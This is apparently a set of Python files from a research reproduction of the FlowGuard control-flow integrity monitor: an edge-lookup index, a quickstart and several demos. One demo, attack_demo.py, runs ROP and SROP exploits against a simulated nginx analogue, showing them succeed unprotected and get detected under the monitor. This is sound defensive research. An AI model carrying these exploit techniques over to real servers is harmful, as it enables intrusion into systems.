        """The §5.3 two-step check: source lookup, then target lookup.

        The hot cache is consulted first; a hit is a single hash probe.
        With edge memoization enabled, a previously computed verdict for
        the exact ``(src, dst, tnt)`` triple short-circuits everything
        at one probe.
        """
        if not self.edge_cache_entries:
            return self._check_edge_uncached(src, dst, tnt)
        key = (src, dst, tuple(tnt))
        self.cycles += costs.EDGE_CACHE_PROBE_CYCLES
        cached = self._memo.get(key)
        tel = get_telemetry()
        if cached is not None:
            self._memo.move_to_end(key)
            self.memo_hits += 1
            if tel.enabled:
                tel.metrics.counter("itccfg.edge_cache.hits").inc()
            return LookupResult(
                cached.in_graph, cached.credit, cached.tnt_ok, probes=1
            )
        self.memo_misses += 1
        if tel.enabled:
            tel.metrics.counter("itccfg.edge_cache.misses").inc()
        result = self._check_edge_uncached(src, dst, tnt)
        self._memo[key] = result
        if len(self._memo) > self.edge_cache_entries:
            self._memo.popitem(last=False)
        return result

    def edge_cache_stats(self) -> dict:
        return {
            "entries": self.edge_cache_entries,
            "resident": len(self._memo),
            "hits": self.memo_hits,
            "misses": self.memo_misses,
            "invalidations": self.memo_invalidations,
            "hit_rate": (
                self.memo_hits / (self.memo_hits + self.memo_misses)
                if (self.memo_hits + self.memo_misses) else 0.0
            ),
        }

    def _check_edge_uncached(
        self, src: int, dst: int, tnt: Tuple[bool, ...] = ()
    ) -> LookupResult:
        probes = 1
        self.cycles += costs.CREDIT_CACHE_PROBE_CYCLES
        hot = self._hot.get((src, dst))
        if hot is not None:
            tnt_ok = not hot or tuple(tnt) in hot
            return LookupResult(True, CreditLevel.HIGH, tnt_ok, probes)

        found_src, src_probes = self._binary_search(self._sources, src)
        probes += src_probes
        self.cycles += src_probes * costs.SEARCH_PROBE_CYCLES
        if not found_src:
            return LookupResult(False, CreditLevel.LOW, False, probes)
        index = bisect.bisect_left(self._sources, src)
        found_dst, dst_probes = self._binary_search(
            self._targets[index], dst
        )
        probes += dst_probes
        self.cycles += dst_probes * costs.SEARCH_PROBE_CYCLES
        if not found_dst:
            return LookupResult(False, CreditLevel.LOW, False, probes)
        credit = self.labeled.credit_of(src, dst)
        tnt_ok = (
            credit is CreditLevel.HIGH
            and self.labeled.tnt_matches(src, dst, tnt)
        )
        return LookupResult(True, credit, tnt_ok, probes)

    def source_count(self) -> int:
        return len(self._sources)

    def memory_bytes(self) -> int:
        """Estimated resident size (Table 5's memory-usage column).

        Source records are (address, count, pointer) = 24 bytes; target
        entries are 8-byte addresses; hot-cache entries carry the edge
        key plus packed TNT patterns.
        """
        size = 24 * len(self._sources)
        size += sum(8 * len(targets) for targets in self._targets)
        for patterns in self._hot.values():
            size += 16  # edge key
            size += sum(8 + (len(p) + 7) // 8 for p in patterns)
        return size
