"""The fast-path matching structure of §5.3.

FlowGuard maintains an array of source-node records, each holding a
count of outgoing edges and a pointer to a sorted array of target
addresses, so membership tests are two binary searches.  A separate
"hot" store caches high-credit edges (with their TNT patterns) for the
common case.  Every probe charges cycles so the micro-benchmarks can
report realistic fast-path costs.
"""

from __future__ import annotations

import bisect
from array import array
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro import costs
from repro.telemetry import get_telemetry
from repro.ipt.packets import pack_tnt_sig, unpack_tnt_sig
from repro.itccfg.credits import CreditLabeledITC, CreditLevel


@dataclass
class LookupResult:
    """Outcome of one edge check."""

    in_graph: bool
    credit: CreditLevel
    tnt_ok: bool
    probes: int


@dataclass
class BatchCheckResult:
    """Outcome of one :meth:`FlowSearchIndex.check_batch` call.

    ``checked`` counts pairs actually verified — the batch stops at the
    first out-of-graph edge, exactly like the per-edge loop it replaces.
    """

    violation: Optional[Tuple[int, int]] = None
    low_credit: List[Tuple[int, int]] = field(default_factory=list)
    checked: int = 0


class FlowSearchIndex:
    """Sorted-array search structure over a credit-labelled ITC-CFG.

    ``edge_cache_entries`` > 0 additionally memoizes full
    ``(src, dst, tnt)`` lookup verdicts in a bounded LRU: a memo hit is
    a single hash probe (``EDGE_CACHE_PROBE_CYCLES``) instead of the
    credit-cache probe plus binary searches.  :meth:`promote` mutates
    edge state, so it invalidates every memo for the promoted edge.
    """

    def __init__(
        self,
        labeled: CreditLabeledITC,
        edge_cache_entries: int = 0,
    ) -> None:
        self.labeled = labeled
        self.edge_cache_entries = edge_cache_entries
        self._memo: "OrderedDict[Tuple[int, int, Tuple[bool, ...]], LookupResult]" = OrderedDict()
        self.memo_hits = 0
        self.memo_misses = 0
        self.memo_invalidations = 0
        succ: Dict[int, Set[int]] = {}
        for edge in labeled.itc.edges:
            succ.setdefault(edge.src, set()).add(edge.dst)
        #: sorted source-node array (§5.3).
        self._sources: List[int] = sorted(succ)
        #: per-source sorted target arrays.
        self._targets: List[List[int]] = [
            sorted(succ[source]) for source in self._sources
        ]
        #: flattened packed mirrors for the batched check: one sorted
        #: ``array('Q')`` of sources, all target arrays concatenated
        #: into one ``array('Q')`` with per-source bounds — bisect runs
        #: on C-contiguous arrays instead of per-source Python lists.
        self._src_arr: array = array("Q", self._sources)
        self._tgt_flat: array = array("Q")
        bounds = array("L", [0] * (len(self._targets) + 1))
        for index, targets in enumerate(self._targets):
            self._tgt_flat.extend(targets)
            bounds[index + 1] = len(self._tgt_flat)
        self._tgt_bounds: array = bounds
        #: hot cache: high-credit edges with TNT patterns, in separate
        #: memory for fast matching.
        self._hot: Dict[Tuple[int, int], Set[Tuple[bool, ...]]] = {}
        #: packed-signature mirror of ``_hot`` (kept in lockstep by
        #: :meth:`promote`) so the batched check matches TNT runs
        #: without unpacking them into tuples.
        self._hot_sigs: Dict[Tuple[int, int], Set[int]] = {}
        for (src, dst), label in labeled.labels.items():
            if label.credit is CreditLevel.HIGH:
                self._hot[(src, dst)] = set(label.tnt_patterns)
                self._hot_sigs[(src, dst)] = {
                    pack_tnt_sig(pattern) for pattern in label.tnt_patterns
                }
        #: packed signature -> unpacked tuple, shared across
        #: ``check_batch`` calls (pure function of the sig; bounded
        #: because real traces repeat a small set of TNT runs).
        self._sig_tuples: Dict[int, Tuple[bool, ...]] = {}
        self.cycles = 0.0

    # -- maintenance ---------------------------------------------------------

    def promote(self, src: int, dst: int, tnt: Tuple[bool, ...] = ()) -> None:
        """Mirror a credit promotion into the hot cache."""
        patterns = self._hot.setdefault((src, dst), set())
        sigs = self._hot_sigs.setdefault((src, dst), set())
        if tnt:
            patterns.add(tuple(tnt))
            sigs.add(pack_tnt_sig(tnt))
        if self._memo:
            stale = [
                key for key in self._memo
                if key[0] == src and key[1] == dst
            ]
            for key in stale:
                del self._memo[key]
            if stale:
                self.memo_invalidations += len(stale)
                tel = get_telemetry()
                if tel.enabled:
                    tel.metrics.counter(
                        "itccfg.edge_cache.invalidations"
                    ).inc(len(stale))

    # -- lookups ----------------------------------------------------------------

    def _binary_search(self, array: List[int], value: int) -> Tuple[bool, int]:
        """Membership + probe count (log2 cost model)."""
        probes = max(1, len(array).bit_length())
        index = bisect.bisect_left(array, value)
        found = index < len(array) and array[index] == value
        return found, probes

    def check_edge(
        self, src: int, dst: int, tnt: Tuple[bool, ...] = ()
    ) -> LookupResult:
        """The §5.3 two-step check: source lookup, then target lookup.

        The hot cache is consulted first; a hit is a single hash probe.
        With edge memoization enabled, a previously computed verdict for
        the exact ``(src, dst, tnt)`` triple short-circuits everything
        at one probe.
        """
        if not self.edge_cache_entries:
            return self._check_edge_uncached(src, dst, tnt)
        key = (src, dst, tuple(tnt))
        self.cycles += costs.EDGE_CACHE_PROBE_CYCLES
        cached = self._memo.get(key)
        tel = get_telemetry()
        if cached is not None:
            self._memo.move_to_end(key)
            self.memo_hits += 1
            if tel.enabled:
                tel.metrics.counter("itccfg.edge_cache.hits").inc()
            return LookupResult(
                cached.in_graph, cached.credit, cached.tnt_ok, probes=1
            )
        self.memo_misses += 1
        if tel.enabled:
            tel.metrics.counter("itccfg.edge_cache.misses").inc()
        result = self._check_edge_uncached(src, dst, tnt)
        self._memo[key] = result
        if len(self._memo) > self.edge_cache_entries:
            self._memo.popitem(last=False)
        return result

    def edge_cache_stats(self) -> dict:
        return {
            "entries": self.edge_cache_entries,
            "resident": len(self._memo),
            "hits": self.memo_hits,
            "misses": self.memo_misses,
            "invalidations": self.memo_invalidations,
            "hit_rate": (
                self.memo_hits / (self.memo_hits + self.memo_misses)
                if (self.memo_hits + self.memo_misses) else 0.0
            ),
        }

    def _check_edge_uncached(
        self, src: int, dst: int, tnt: Tuple[bool, ...] = ()
    ) -> LookupResult:
        probes = 1
        self.cycles += costs.CREDIT_CACHE_PROBE_CYCLES
        hot = self._hot.get((src, dst))
        if hot is not None:
            tnt_ok = not hot or tuple(tnt) in hot
            return LookupResult(True, CreditLevel.HIGH, tnt_ok, probes)

        found_src, src_probes = self._binary_search(self._sources, src)
        probes += src_probes
        self.cycles += src_probes * costs.SEARCH_PROBE_CYCLES
        if not found_src:
            return LookupResult(False, CreditLevel.LOW, False, probes)
        index = bisect.bisect_left(self._sources, src)
        found_dst, dst_probes = self._binary_search(
            self._targets[index], dst
        )
        probes += dst_probes
        self.cycles += dst_probes * costs.SEARCH_PROBE_CYCLES
        if not found_dst:
            return LookupResult(False, CreditLevel.LOW, False, probes)
        credit = self.labeled.credit_of(src, dst)
        tnt_ok = (
            credit is CreditLevel.HIGH
            and self.labeled.tnt_matches(src, dst, tnt)
        )
        return LookupResult(True, credit, tnt_ok, probes)

    def check_batch(self, ips: list, sigs: list) -> BatchCheckResult:
        """Verify a whole window of TIP records in one call.

        ``ips`` are the window's record IPs in stream order; ``sigs``
        their packed TNT signatures (``sigs[i]`` is the run observed
        before ``ips[i]``).  Pair *i* is the edge
        ``ips[i-1] -> ips[i]`` checked with ``sigs[i]`` — exactly the
        pairs the per-edge loop fed to :meth:`check_edge`.

        This is the batched mirror of :meth:`check_edge`: identical
        cycle charges in identical order (the cycle model is the
        measurement instrument), identical memo state transitions and
        telemetry counters, and the same early stop at the first
        out-of-graph edge — but one flat loop over packed arrays instead
        of a method call, tuple key build and dataclass allocation per
        pair.
        """
        outcome = BatchCheckResult()
        low_credit = outcome.low_credit
        memo_capacity = self.edge_cache_entries
        memo = self._memo
        hot_sigs = self._hot_sigs
        src_arr = self._src_arr
        tgt_flat = self._tgt_flat
        tgt_bounds = self._tgt_bounds
        src_probes = max(1, len(src_arr).bit_length())
        credit_probe = costs.CREDIT_CACHE_PROBE_CYCLES
        search_probe = costs.SEARCH_PROBE_CYCLES
        memo_probe = costs.EDGE_CACHE_PROBE_CYCLES
        bisect_left = bisect.bisect_left
        high = CreditLevel.HIGH
        low_level = CreditLevel.LOW
        labeled = self.labeled
        hit_counter = miss_counter = None
        if memo_capacity:
            tel = get_telemetry()
            if tel.enabled:
                hit_counter = tel.metrics.counter("itccfg.edge_cache.hits")
                miss_counter = tel.metrics.counter("itccfg.edge_cache.misses")
        sig_tuples = self._sig_tuples
        checked = 0
        for index in range(1, len(ips)):
            src = ips[index - 1]
            dst = ips[index]
            sig = sigs[index]
            checked += 1
            key = None
            if memo_capacity:
                tnt = sig_tuples.get(sig)
                if tnt is None:
                    tnt = unpack_tnt_sig(sig)
                    sig_tuples[sig] = tnt
                key = (src, dst, tnt)
                self.cycles += memo_probe
                cached = memo.get(key)
                if cached is not None:
                    memo.move_to_end(key)
                    self.memo_hits += 1
                    if hit_counter is not None:
                        hit_counter.inc()
                    if not cached.in_graph:
                        outcome.violation = (src, dst)
                        break
                    if cached.credit is not high or not cached.tnt_ok:
                        low_credit.append((src, dst))
                    continue
                self.memo_misses += 1
                if miss_counter is not None:
                    miss_counter.inc()
            # -- uncached lookup (mirrors _check_edge_uncached) --------------
            probes = 1
            self.cycles += credit_probe
            hot = hot_sigs.get((src, dst))
            if hot is not None:
                in_graph = True
                credit = high
                tnt_ok = not hot or sig in hot
            else:
                probes += src_probes
                self.cycles += src_probes * search_probe
                position = bisect_left(src_arr, src)
                if position < len(src_arr) and src_arr[position] == src:
                    lo = tgt_bounds[position]
                    hi = tgt_bounds[position + 1]
                    dst_probes = max(1, (hi - lo).bit_length())
                    probes += dst_probes
                    self.cycles += dst_probes * search_probe
                    slot = bisect_left(tgt_flat, dst, lo, hi)
                    if slot < hi and tgt_flat[slot] == dst:
                        in_graph = True
                        credit = labeled.credit_of(src, dst)
                        if credit is high:
                            tnt = sig_tuples.get(sig)
                            if tnt is None:
                                tnt = unpack_tnt_sig(sig)
                                sig_tuples[sig] = tnt
                            tnt_ok = labeled.tnt_matches(src, dst, tnt)
                        else:
                            tnt_ok = False
                    else:
                        in_graph = False
                        credit = low_level
                        tnt_ok = False
                else:
                    in_graph = False
                    credit = low_level
                    tnt_ok = False
            if memo_capacity:
                memo[key] = LookupResult(in_graph, credit, tnt_ok, probes)
                if len(memo) > memo_capacity:
                    memo.popitem(last=False)
            if not in_graph:
                outcome.violation = (src, dst)
                break
            if credit is not high or not tnt_ok:
                low_credit.append((src, dst))
        outcome.checked = checked
        return outcome

    def source_count(self) -> int:
        return len(self._sources)

    def memory_bytes(self) -> int:
        """Estimated resident size (Table 5's memory-usage column).

        Source records are (address, count, pointer) = 24 bytes; target
        entries are 8-byte addresses; hot-cache entries carry the edge
        key plus packed TNT patterns.
        """
        size = 24 * len(self._sources)
        size += sum(8 * len(targets) for targets in self._targets)
        for patterns in self._hot.values():
            size += 16  # edge key
            size += sum(8 + (len(p) + 7) // 8 for p in patterns)
        return size
