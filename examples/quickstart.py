#!/usr/bin/env python3
"""Quickstart: protect a server with FlowGuard in ~30 lines.

Walks the full Figure 1 pipeline: offline CFG construction + training,
kernel-module installation, per-process IPT tracing, and endpoint
checking — then serves benign traffic and shows the monitor's verdicts
and cost breakdown.  Runs with telemetry on: exports a Chrome trace
(`quickstart_trace.json`, load it in chrome://tracing or Perfetto) and
checks that the cycle profiler reconciles exactly with MonitorStats.

Run:  python examples/quickstart.py
"""

from repro import telemetry
from repro.osmodel import Kernel
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)


def main() -> None:
    telemetry.enable()  # spans, metrics, and the cycle profiler

    # -- offline phase (steps 1-2: static analysis + fuzzing training) --
    pipeline = FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        {"libsim.so": build_libsim()},
        vdso=build_vdso(),
        corpus=[
            nginx_request("/index.html"),
            nginx_request("/missing"),
            nginx_request("/p", "POST", b"form"),
        ],
        mode="socket",
        kernel_setup=lambda k: k.fs.create("/index.html", b"<html>hi</html>"),
    )
    print("offline phase complete:")
    print(f"  O-CFG: {pipeline.ocfg.stats()['blocks']} basic blocks, "
          f"{pipeline.ocfg.stats()['edges']} edges")
    print(f"  ITC-CFG: {len(pipeline.itc.nodes)} IT-BBs, "
          f"{pipeline.itc.edge_count} edges")
    print(f"  trained credit ratio: "
          f"{pipeline.labeled.trained_ratio() * 100:.1f}%")

    # -- runtime phase (steps 3-5: trace, intercept, check) --------------
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>hi</html>")
    monitor, proc = pipeline.deploy(kernel)
    connections = [
        proc.push_connection(nginx_request("/index.html"))
        for _ in range(5)
    ]
    kernel.run(proc)

    print("\nserved benign traffic:")
    for index, conn in enumerate(connections):
        status = bytes(conn.outbound).split(b"\n", 1)[0].decode()
        print(f"  request {index}: {status}")
    stats = monitor.stats_for(proc)
    print(f"\nmonitor: {stats.checks} endpoint checks, "
          f"{stats.slow_path_runs} slow-path runs, "
          f"{len(monitor.detections)} detections")
    print(f"overhead: {monitor.overhead_for(proc) * 100:.2f}% "
          f"(trace {stats.trace_cycles:.0f} / decode "
          f"{stats.decode_cycles:.0f} / check {stats.check_cycles:.0f} "
          f"/ other {stats.other_cycles:.0f} cycles)")
    assert not monitor.detections, "benign traffic must not trip CFI"
    print("\nno false positives — FlowGuard is conservative by design.")

    # -- telemetry: trace export + exact cycle reconciliation ------------
    tel = telemetry.get_telemetry()
    report = tel.profiler.reconcile(monitor.all_stats())
    assert report["exact"], f"profiler must reconcile exactly: {report}"
    phases = ", ".join(
        f"{phase} {cycles:.0f}"
        for phase, cycles in sorted(tel.profiler.per_phase().items())
    )
    print(f"cycle profile reconciles with MonitorStats: {phases}")
    events = tel.tracer.export_chrome("quickstart_trace.json")
    print(f"wrote quickstart_trace.json ({events} spans) — open it in "
          f"chrome://tracing")


if __name__ == "__main__":
    main()
