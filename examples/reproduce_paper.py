#!/usr/bin/env python3
"""Reproduce every table and figure of the paper in one run.

Prints Table 1, the §2 decode measurement, Table 4, Table 5, Figures
5a-5d, the §7.2.2 micro-benchmark, the §7.2.4 hardware-extension
projection and the §7.1.2 attack matrix.  Takes a minute or two.

Run:  python examples/reproduce_paper.py [--quick]
"""

import sys
import time

from repro.experiments import (
    fig5a,
    fig5b,
    fig5c,
    fig5d,
    hwext_breakdown,
    micro,
    sec2_decode,
    security,
    table1,
    table4,
    table5,
)


def main() -> None:
    quick = "--quick" in sys.argv
    suite = ("perlbench", "mcf", "h264ref", "lbm") if quick else \
        table1.DEFAULT_SUITE
    sessions = 4 if quick else 8

    stages = [
        ("Table 1", lambda: table1.format_table(table1.run(suite=suite))),
        ("§2 decode overhead",
         lambda: sec2_decode.format_table(sec2_decode.run(suite=suite))),
        ("Table 4", lambda: table4.format_table(table4.run())),
        ("Table 5", lambda: table5.format_table(table5.run())),
        ("Figure 5a",
         lambda: fig5a.format_table(fig5a.run(sessions=sessions))),
        ("Figure 5b", lambda: fig5b.format_table(fig5b.run())),
        ("Figure 5c",
         lambda: fig5c.format_table(fig5c.run(suite=suite))),
        ("Figure 5d",
         lambda: fig5d.format_table(
             fig5d.run(fuzz_budget=100 if quick else 300))),
        ("§7.2.2 micro", lambda: micro.format_table(micro.run())),
        ("§7.2.4 hardware extensions",
         lambda: hwext_breakdown.format_table(
             hwext_breakdown.run(sessions=sessions))),
        ("§7.1.2 attacks",
         lambda: security.format_table(security.run())),
    ]
    for label, stage in stages:
        start = time.perf_counter()
        output = stage()
        elapsed = time.perf_counter() - start
        print(f"\n{'=' * 70}\n{output}\n[{label}: {elapsed:.1f}s]")


if __name__ == "__main__":
    main()
