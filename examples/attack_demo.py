#!/usr/bin/env python3
"""§7.1.2 attack demo: ROP and SROP against the nginx analogue.

Shows each exploit working on an unprotected server (attacker data
lands in /tmp/pwned), then detected and killed under FlowGuard — ROP at
the `write` endpoint, SROP at `sigreturn`, as in the paper.

Run:  python examples/attack_demo.py
"""

from repro.attacks import build_rop_request, build_srop_request, run_recon
from repro.attacks.rop import ATTACK_DATA, ATTACK_PATH
from repro.osmodel import Kernel, ProcessState, Sys
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

LIBS = {"libsim.so": build_libsim()}


def run_unprotected(request: bytes, label: str) -> None:
    kernel = Kernel()
    kernel.register_program("nginx", build_nginx(), LIBS, vdso=build_vdso())
    proc = kernel.spawn("nginx")
    proc.push_connection(request)
    kernel.run(proc)
    pwned = kernel.fs.exists(ATTACK_PATH.decode())
    contents = (
        kernel.fs.contents(ATTACK_PATH.decode()) if pwned else b""
    )
    print(f"  [unprotected] {label}: "
          f"{'EXPLOITED — ' + contents.decode().strip() if contents else 'no effect'}")


def run_protected(pipeline: FlowGuardPipeline, request: bytes,
                  label: str) -> None:
    kernel = Kernel()
    monitor, proc = pipeline.deploy(kernel)
    proc.push_connection(request)
    kernel.run(proc)
    if monitor.detections:
        det = monitor.detections[0]
        syscall = Sys(det.syscall_nr).name.lower()
        print(f"  [FlowGuard]   {label}: DETECTED at the {syscall} "
              f"endpoint ({det.path} path) -> process SIGKILLed "
              f"({proc.state.value})")
    else:
        print(f"  [FlowGuard]   {label}: NOT DETECTED (!)")


def main() -> None:
    print("attacker reconnaissance (deterministic layout, no ASLR)...")
    recon = run_recon(build_nginx(), LIBS, vdso=build_vdso())
    print(f"  body buffer at {recon.body_addr:#x}, "
          f"predicted open() fd = {recon.next_open_fd}")

    pipeline = FlowGuardPipeline.offline(
        "nginx", build_nginx(), LIBS, vdso=build_vdso(),
        corpus=[nginx_request("/index.html"),
                nginx_request("/p", "POST", b"benign")],
        mode="socket",
    )

    print("\ntraditional ROP (setcontext/open/write chain):")
    rop = build_rop_request(recon)
    run_unprotected(rop, "ROP ")
    run_protected(pipeline, rop, "ROP ")

    print("\nSROP (forged sigreturn frame):")
    srop = build_srop_request(recon)
    run_unprotected(srop, "SROP")
    run_protected(pipeline, srop, "SROP")

    print(f"\nboth attacks aim to write {ATTACK_DATA!r} into "
          f"{ATTACK_PATH.decode()} — FlowGuard stops both.")


if __name__ == "__main__":
    main()
