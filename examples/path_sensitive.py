#!/usr/bin/env python3
"""The §7.1.2 future-work extension: path-sensitive fast-path checking.

Demonstrates the trade-off the paper predicted: matching trained
high-credit *paths* (k-grams of consecutive TIP targets) instead of
individual edges strengthens the fast path — stitching trained edges in
a novel order no longer passes — at the cost of more slow-path checks.

Run:  python examples/path_sensitive.py
"""

from repro.monitor import FlowGuardPolicy
from repro.osmodel import Kernel
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)


def serve(pipeline, policy, requests):
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>x</html>")
    kernel.fs.create("/about.html", b"<html>about</html>")
    monitor, proc = pipeline.deploy(kernel, policy=policy)
    for request in requests:
        proc.push_connection(request)
    kernel.run(proc)
    return monitor.stats_for(proc), monitor


def main() -> None:
    pipeline = FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        {"libsim.so": build_libsim()},
        vdso=build_vdso(),
        corpus=[
            nginx_request("/index.html"),
            (nginx_request("/index.html"),) * 3,  # multi-request session
        ],
        mode="socket",
        kernel_setup=lambda k: k.fs.create(
            "/index.html", b"<html>x</html>"
        ),
    )
    print(f"trained: {pipeline.labeled.trained_ratio() * 100:.0f}% of "
          f"ITC edges, {pipeline.path_index.trained_gram_count} "
          f"path grams")

    workload = [nginx_request("/index.html")] * 3 + [
        nginx_request("/missing.html"),   # 404 flow: never trained
        nginx_request("/index.html", "HEAD"),  # HEAD flow: never trained
        nginx_request("/index.html"),
    ]
    for label, policy in [
        ("edge-sensitive (paper default)",
         FlowGuardPolicy(cache_slow_path_negatives=False)),
        ("path-sensitive (future work)",
         FlowGuardPolicy(path_sensitive=True,
                         cache_slow_path_negatives=False)),
    ]:
        stats, monitor = serve(pipeline, policy, workload)
        print(f"\n{label}:")
        print(f"  checks: {stats.checks}, slow-path runs: "
              f"{stats.slow_path_runs} "
              f"({stats.slow_path_rate * 100:.0f}%)")
        print(f"  detections: {len(monitor.detections)} "
              f"(zero — the graph stays conservative)")
        assert not monitor.detections

    print(
        "\nOn this benign workload both modes demote the same windows: "
        "every novel request type already fails an edge's TNT match. "
        "The modes diverge on *stitched* flows — windows whose every "
        "edge (2-gram) was trained but whose longer k-grams never "
        "occurred together, the gap an attacker chaining trained "
        "NOP-gadget edges would exploit (see "
        "tests/test_paths.py and benchmarks/test_ablations.py)."
    )


if __name__ == "__main__":
    main()
