#!/usr/bin/env python3
"""Fleet mode demo: one monitor, many processes, parallel checking.

Runs a six-process fleet (alternating nginx / exim analogues) under a
single round-robin-scheduled FlowGuard monitor with four simulated
checker workers, then injects a ROP exploit into one nginx instance and
shows the violator being quarantined while the rest of the fleet
finishes clean.

Run:  python examples/fleet_demo.py
"""

from repro.attacks import build_rop_request, run_recon
from repro.experiments.common import (
    libraries,
    seed_server_fs,
    server_pipeline,
    server_requests,
)
from repro.fleet import FleetConfig, FleetService, RingPolicy
from repro.workloads import build_nginx, build_vdso

SERVERS = ("nginx", "exim")


def build_fleet(inject_rop: bool) -> tuple:
    service = FleetService(
        FleetConfig(workers=4, ring_policy=RingPolicy.STALL)
    )
    seed_server_fs(service.kernel)
    rop = None
    if inject_rop:
        recon = run_recon(build_nginx(), libraries(), vdso=build_vdso())
        rop = build_rop_request(recon)
    attacked_pid = None
    for index in range(6):
        name = SERVERS[index % len(SERVERS)]
        requests = list(server_requests(name, 2))
        if rop is not None and index == 0:
            # Attack one nginx mid-stream, clean sessions around it.
            requests.insert(len(requests) // 2, rop)
        proc = service.add_workload(server_pipeline(name), requests)
        if rop is not None and index == 0:
            attacked_pid = proc.pid
    return service, attacked_pid


def report(result, attacked_pid) -> None:
    for row in result.processes:
        status = "QUARANTINED" if row["quarantined"] else row["state"]
        marker = "  <- attacked" if row["pid"] == attacked_pid else ""
        print(f"  pid {row['pid']:>2} {row['name']:<6} {status:<11} "
              f"{row['checks']:>3} checks{marker}")
    for event in result.quarantines:
        window = event.detected_at - event.enqueued_at
        print(f"  quarantine: pid {event.pid} after a {window:.0f}-cycle "
              f"detection window — {event.reason}")
    print(f"  check lag p50/p99: {result.lag['p50']:.0f} / "
          f"{result.lag['p99']:.0f} cycles; overhead "
          f"{result.overhead:.2%}; ledger exact: "
          f"{result.accounting['exact']}")


def main() -> None:
    print("[clean fleet: 6 processes x 4 workers]")
    service, _ = build_fleet(inject_rop=False)
    report(service.run(), None)

    print("\n[same fleet, ROP injected into one nginx]")
    service, attacked_pid = build_fleet(inject_rop=True)
    result = service.run()
    report(result, attacked_pid)
    assert attacked_pid in result.quarantined_pids
    clean = [r for r in result.processes if r["pid"] != attacked_pid]
    assert all(r["state"] == "exited" for r in clean)
    print("\nviolator quarantined; the rest of the fleet finished clean")


if __name__ == "__main__":
    main()
