#!/usr/bin/env python3
"""Table 2 walkthrough: how IPT traces execution.

Runs a small instruction sequence mirroring the paper's Table 2 —
a taken conditional, an indirect jump, a direct call (no output!), a
not-taken conditional, a direct jump (no output), and a return — then
dumps the packet stream and fully decodes it back.

Run:  python examples/ipt_tracing.py
"""

from repro.cpu import Executor, Machine, Memory
from repro.cpu import PROT_EXEC, PROT_READ, PROT_WRITE
from repro.ipt import FullDecoder, IPTConfig, IPTEncoder, ToPA, ToPARegion
from repro.ipt import fast_decode
from repro.ipt.msr import RTIT_CTL
from repro.ipt.packets import PacketKind
from repro.isa import A, Cond, Label, asm
from repro.isa.registers import R0, R2, SP

# The Table 2 flow: jg taken; jmpq *%rax; callq fun1; ...; je not-taken;
# jmpq (direct); leaveq; retq.
SNIPPET = [
    A.mov(R0, 1),
    A.cmpi(R0, 0),
    A.jcc(Cond.GT, "indirect"),      # 1. jg  -> taken        => TNT(1)
    Label("indirect"),
    A.lea(R2, "call_site"),
    A.jmpr(R2),                      # 2. jmpq *%rax           => TIP
    Label("call_site"),
    A.call("fun1"),                  # 3. callq fun1           => (none)
    A.halt(),                        # 4. mov ... (resume)
    Label("fun1"),
    A.cmpi(R0, 2),                   # 6. cmp
    A.jcc(Cond.EQ, "skip"),          # 7. je  -> not-taken     => TNT(0)
    A.jmp("ret_block"),              # 8. jmpq (direct)        => (none)
    Label("skip"),
    A.nop(),
    Label("ret_block"),
    A.ret(),                         # 9. retq                 => TIP
]


def main() -> None:
    code, symbols = asm(SNIPPET, base=0x8F0)
    memory = Memory()
    memory.map_region(0x8F0, len(code) + 16, PROT_READ | PROT_EXEC)
    memory.write_raw(0x8F0, code)
    memory.map_region(0x20000, 0x1000, PROT_READ | PROT_WRITE)
    machine = Machine(memory)
    machine.ip = 0x8F0
    machine.set_reg(SP, 0x20FF8)

    config = IPTConfig()
    config.write_ctl(RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER)
    encoder = IPTEncoder(config, output=ToPA([ToPARegion(4096)]))

    cpu = Executor(machine)
    events = []
    cpu.add_listener(events.append)
    cpu.add_listener(encoder.on_branch)
    cpu.run(1000)
    encoder.flush()

    print("executed control flow (ground truth):")
    for event in events:
        print(f"  {event}")

    data = encoder.output.snapshot()
    print(f"\nIPT emitted {len(data)} packet bytes for "
          f"{cpu.insn_count} instructions "
          f"({8 * len(data) / cpu.insn_count:.1f} bits/insn, "
          f"incl. the one-time PSB group)")
    print("\npacket stream (fast decode — framing only):")
    for packet in fast_decode(data).packets:
        detail = ""
        if packet.kind is PacketKind.TNT:
            detail = " bits=" + "".join("1" if b else "0"
                                        for b in packet.bits)
        elif packet.ip is not None:
            detail = f" ip={packet.ip:#x}"
        print(f"  {packet.kind.value.upper():8s}{detail}")

    print("\nfull decode (instruction-flow layer, needs the binary):")
    result = FullDecoder(memory).decode(fast_decode(data).packets)
    for edge in result.edges:
        print(f"  {edge.kind.value:13s} {edge.src:#x} -> {edge.dst:#x}")
    print(f"  ({result.insn_count} instructions walked to reconstruct "
          f"{len(result.edges)} transfers — the §2 cost asymmetry)")


if __name__ == "__main__":
    main()
