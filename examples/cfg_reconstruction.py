#!/usr/bin/env python3
"""Figure 3 walkthrough: O-CFG -> ITC-CFG -> credit labelling.

Reconstructs the paper's 10-basic-block example, showing which blocks
survive as IT-BBs, how edges are re-associated across direct paths
(BB-3 -> BB-9 via the indirect hop at BB-6; no BB-3 -> BB-10 edge), and
how training labels edges with credits and TNT information.  Then runs
the same machinery on the real nginx analogue.

Run:  python examples/cfg_reconstruction.py
"""

from repro.analysis import ControlFlowGraph, Edge, EdgeKind, aia_itc, aia_ocfg
from repro.analysis.cfg import BasicBlock
from repro.itccfg import CreditLabeledITC, CreditLevel, build_itccfg


def figure3() -> None:
    bb = {i: 0x1000 * i for i in range(1, 11)}
    names = {addr: f"BB-{i}" for i, addr in bb.items()}
    cfg = ControlFlowGraph()
    for i, start in bb.items():
        cfg.add_block(BasicBlock(start, start + 0x10, "app", f"bb{i}"))

    def direct(s, d):
        cfg.add_edge(Edge(bb[s], bb[d], EdgeKind.DIRECT_JMP, bb[s] + 8))

    def indirect(s, d):
        cfg.add_edge(Edge(bb[s], bb[d], EdgeKind.INDIRECT_JMP, bb[s] + 8))

